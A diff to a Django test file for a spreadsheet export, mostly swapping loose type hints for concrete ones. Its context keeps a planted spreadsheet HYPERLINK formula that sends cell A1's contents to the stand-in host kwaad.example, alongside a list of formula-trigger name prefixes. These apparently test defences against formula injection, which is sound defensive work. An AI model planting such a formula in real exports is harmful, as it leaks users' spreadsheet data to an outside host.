@@ -7,10 +7,11 @@ import io
 from typing import Any
 
 import pytest
+from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from conftest import PASSWORD
+from conftest import PASSWORD, World
 from plg.organisations.models import Aanstelling, Functie, School
 from plg.scans import services
 from plg.scans.tests.conftest import answer
@@ -19,7 +20,7 @@ TITLE = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik hier")'
 NAMES = ["+32 Plus", "-Min", "@Apenstaart", "\tTab", "\rTerug", "=1+1"]
 
 
-def _waves(world: Any) -> None:
+def _waves(world: World) -> None:
     """De Regenboog: an earlier wave answered high, then the planted title answered lower (a
     negative difference); schools whose names start a formula, supported by the advisor."""
     for title, value in (("Eerder", 4), (TITLE, 2)):
@@ -34,7 +35,7 @@ def _waves(world: Any) -> None:
         )
 
 
-def _export(client: Any, world: Any, formaat: str) -> Any:
+def _export(client: Client, world: World, formaat: str) -> Any:
     _waves(world)
     client.login(username=world.advisor.email, password=PASSWORD)
     response = client.get(reverse("begeleiding_scans_export", args=[formaat]))
